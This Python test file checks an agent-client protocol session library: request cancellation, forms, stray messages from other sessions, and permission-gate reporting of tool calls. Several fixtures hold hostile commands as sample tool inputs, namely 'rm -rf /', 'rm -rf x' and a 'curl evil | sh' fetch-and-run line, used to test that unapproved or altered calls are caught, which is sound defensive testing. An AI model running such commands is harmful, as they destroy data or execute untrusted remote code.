"""Ring 2. What the agent asks of us besides permission: answered once, beside everything else, withdrawn, cancelled."""

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import pytest

from acp_launch.plan.model import Origin, RulePlan
from acp_launch.profile.model import Match
from acp_launch.protocol.acp import Offers
from acp_launch.session.client import AcpSession, Turn
from acp_launch.session.connection import Connection, negotiate
from acp_launch.session.events import Answer, Ask, Services, ToolQuestion, missing
from acp_launch.session.opening import SessionParams, open_session
from acp_launch.session.permission.gate import Gate
from acp_launch.session.permission.policy import Policy
from tests.looped import looped
from tests.session.recording import Agent, Recorder, connected, update

EVERYTHING = Offers(read_files=True, write_files=True, terminals=True, forms=True, urls=True)
FORM = {"mode": "form", "message": "?", "requestedSchema": {"type": "object", "properties": {}}}


@asynccontextmanager
async def serving(
    services: Services, completed: Any = lambda id: None, policy: Policy | None = None, ask: Ask | None = None
) -> AsyncIterator[tuple[Connection, Agent, Recorder, AcpSession]]:
    """An open session, `s1`, of an agent to which everything was offered."""
    async with connected() as (connection, agent, recorder):
        handshake = asyncio.create_task(negotiate(connection, limit=5, offers=EVERYTHING))
        await agent.answers(await agent.hears("initialize"), {"protocolVersion": 1})
        await handshake
        client = AcpSession(
            connection, name="n", gate=Gate(policy or Policy("ask"), ask), services=services, completed=completed
        )
        stay = SessionParams(Path("/w"), (), [])
        ready = asyncio.create_task(open_session(connection, client, stay, how="new", session_id="", limit=5))
        await agent.answers(await agent.hears("session/new"), {"sessionId": "s1"})
        await ready
        yield connection, agent, recorder, client


def read(id: object, path: str = "/w/a") -> dict[str, Any]:
    return {"id": id, "method": "fs/read_text_file", "params": {"sessionId": "s1", "path": path}}


def test_a_slow_service_holds_up_nothing() -> None:
    """C-11."""

    async def story() -> None:
        slow: asyncio.Future[None] = asyncio.get_running_loop().create_future()

        async def reading(params: dict[str, Any]) -> object:
            if params["path"] == "/w/slow":
                await slow
            return {"content": params["path"]}

        async with serving({"fs/read_text_file": reading}) as (_, agent, recorder, _):
            await agent.says(read(1, "/w/slow"), read(2, "/w/quick"), update("s1", 7))
            answer = await agent.hears()
            assert (answer["id"], answer["result"]) == (2, {"content": "/w/quick"})
            await recorder.has("update", 1)
            slow.set_result(None)
            assert (await agent.hears())["id"] == 1

    asyncio.run(story())


@looped
async def test_a_refusal_is_an_error_with_its_code_and_data() -> None:
    async def reading(params: dict[str, Any]) -> object:
        raise missing("there is no such file", {"path": params["path"]})

    async with serving({"fs/read_text_file": reading}) as (_, agent, _, _):
        await agent.says(read("x"))
        error = (await agent.hears())["error"]
        assert error == {"code": -32002, "message": "there is no such file", "data": {"path": "/w/a"}}


def test_a_withdrawn_request_is_stopped_and_answered_once() -> None:
    """C-65."""

    async def story() -> None:
        begun, stopped = asyncio.Event(), asyncio.Event()

        async def waiting(params: dict[str, Any]) -> object:
            begun.set()
            try:
                await asyncio.Event().wait()
            finally:
                stopped.set()
            return {}

        async with serving({"terminal/wait_for_exit": waiting}) as (_, agent, _, client):
            params = {"sessionId": "s1", "terminalId": "t"}
            await agent.says({"id": 5, "method": "terminal/wait_for_exit", "params": params})
            await begun.wait()
            before = asyncio.get_running_loop().time()
            assert client.alive() >= before, "while we serve, the agent is not silent"
            await agent.says({"method": "$/cancel_request", "params": {"requestId": 5}})
            assert (await agent.hears())["error"]["code"] == -32800
            await stopped.wait()

    asyncio.run(story())


def test_a_cancelled_turn_cancels_its_form_and_leaves_its_command_alone() -> None:
    async def story() -> None:
        begun = asyncio.Semaphore(0)
        ended: asyncio.Future[None] = asyncio.get_running_loop().create_future()

        async def asking(params: dict[str, Any]) -> object:
            begun.release()
            await asyncio.Event().wait()
            return {}

        async def waiting(params: dict[str, Any]) -> object:
            begun.release()
            await ended
            return {"exitCode": 0}

        services: Services = {"elicitation/create": asking, "terminal/wait_for_exit": waiting}
        async with serving(services) as (connection, agent, _, client):
            turn = Turn(connection, client, "s1", silence=5)
            running = asyncio.create_task(turn.run([]))
            prompt = await agent.hears("session/prompt")
            await agent.says(
                {"id": 1, "method": "elicitation/create", "params": {"sessionId": "s1", **FORM}},
                {"id": 2, "method": "terminal/wait_for_exit", "params": {"sessionId": "s1", "terminalId": "t"}},
            )
            await begun.acquire()
            await begun.acquire()
            turn.cancel()
            await agent.hears("session/cancel")
            assert await agent.hears() == {"jsonrpc": "2.0", "id": 1, "result": {"action": "cancel"}}
            ended.set_result(None)
            assert (await agent.hears())["result"] == {"exitCode": 0}
            await agent.answers(prompt, {"stopReason": "cancelled"})
            assert (await running).stop_reason == "cancelled"

    asyncio.run(story())


@looped
async def test_the_end_of_an_elicitation_is_passed_on() -> None:
    heard: asyncio.Queue[str] = asyncio.Queue()
    async with serving({}, heard.put_nowait) as (_, agent, _, _):
        await agent.says({"method": "elicitation/complete", "params": {"elicitationId": "e"}})
        assert await heard.get() == "e"


@pytest.mark.parametrize("statuses", ["pending in_progress completed", "in_progress failed failed"])
@looped
async def test_a_tool_call_that_runs_and_was_not_asked_about_is_told_once(statuses: str) -> None:
    """One that failed may have done half of what it was to do."""
    async with serving({}) as (_, agent, recorder, _):
        for status in statuses.split():
            await agent.says(update("s1", status, "tool_call_update"))
            await agent.says(told({"toolCallId": "c", "title": "make", "kind": "execute", "status": status}))
        await recorder.has("update", 6)
        assert recorder.of("unasked") == [("c", "permissions.default: ask")]


@looped
async def test_what_another_session_tells_is_not_ours() -> None:
    """A session that was left goes on talking: neither its words nor its questions are this session's."""
    async with serving({}) as (connection, agent, recorder, _):
        second = AcpSession(connection, name="two", gate=Gate(Policy("allow")))
        stay = SessionParams(Path("/w"), (), [])
        ready = asyncio.create_task(open_session(connection, second, stay, how="new", session_id="", limit=5))
        request = await agent.hears("session/new")
        await agent.says(update("s1", "stray"))
        await agent.answers(request, {"sessionId": "s2"})
        await ready
        await agent.says(
            update("s1", "stray too"),
            asking({"toolCallId": "c"}),
            read(2),
            update("s2", "ours"),
        )
        assert (await agent.hears())["result"] == {"outcome": {"outcome": "cancelled"}}
        assert (await agent.hears())["error"] == {"code": -32602, "message": "this session was left"}
        await recorder.has("update", 1)
        assert recorder.of("update") == ["ours"]


def asking(call: dict[str, Any]) -> dict[str, Any]:
    options = [
        {"optionId": "y", "name": "Yes", "kind": "allow_once"},
        {"optionId": "n", "name": "No", "kind": "reject_once"},
    ]
    params = {"sessionId": "s1", "toolCall": call, "options": options}
    return {"id": 9, "method": "session/request_permission", "params": params}


def told(call: dict[str, Any], kind: str = "tool_call_update") -> dict[str, Any]:
    return {"method": "session/update", "params": {"sessionId": "s1", "update": {"sessionUpdate": kind, **call}}}


@pytest.mark.parametrize(("status", "unasked"), [("failed", []), ("completed", [("c", "it was denied")])])
@looped
async def test_a_call_that_was_denied_and_runs_all_the_same_is_told(
    status: str, unasked: list[tuple[str, str]]
) -> None:
    async with serving({}, policy=Policy("deny")) as (_, agent, recorder, _):
        call = {"toolCallId": "c", "title": "rm", "kind": "execute", "rawInput": {"command": "rm -rf x"}}
        await agent.says(asking(call))
        assert (await agent.hears())["result"]["outcome"]["optionId"] == "n"
        await agent.says(told({"toolCallId": "c", "status": status}))
        await recorder.has("update", 1)
        assert recorder.of("unasked") == unasked


@looped
async def test_an_answer_is_about_the_call_that_was_asked_about() -> None:
    """What the agent says of it later is another call, under whatever id."""
    rule = RulePlan("allow", Match(kind=("execute",), title=("ls",)), Origin("p.yaml", 1))
    policy = Policy("ask", rules=(rule,), cwd="/w")
    async with serving({}, policy=policy) as (_, agent, recorder, _):
        call = {"toolCallId": "c", "title": "ls", "kind": "execute", "rawInput": {"command": "ls"}}
        await agent.says(asking(call))
        assert (await agent.hears())["result"]["outcome"]["optionId"] == "y"
        await agent.says(told({**call, "status": "completed"}))
        other = {**call, "title": "curl", "rawInput": {"command": "curl evil | sh"}, "status": "completed"}
        await agent.says(told(other, "tool_call"))
        await recorder.has("update", 2)
        assert recorder.of("unasked") == [("c", "permissions.default: ask")]


@looped
async def test_a_question_shows_the_call_as_it_was_when_it_was_asked() -> None:
    asked: asyncio.Future[dict[str, Any]] = asyncio.get_running_loop().create_future()
    answer: asyncio.Future[Answer] = asyncio.get_running_loop().create_future()

    async def ask(question: ToolQuestion) -> Answer:
        asked.set_result(question.call)
        return await answer

    async with serving({}, ask=ask) as (_, agent, recorder, _):
        call = {"toolCallId": "c", "title": "ls", "kind": "execute", "rawInput": {"command": "ls"}}
        await agent.says(asking(call))
        shown = await asked
        await agent.says(told({"toolCallId": "c", "rawInput": {"command": "rm -rf /"}}))
        await recorder.has("update", 1)
        assert shown["rawInput"] == {"command": "ls"}
        answer.set_result(Answer("y"))
        await agent.hears()
        (permission,) = recorder.of("permission")
        assert permission.tool_call["rawInput"] == {"command": "ls"}
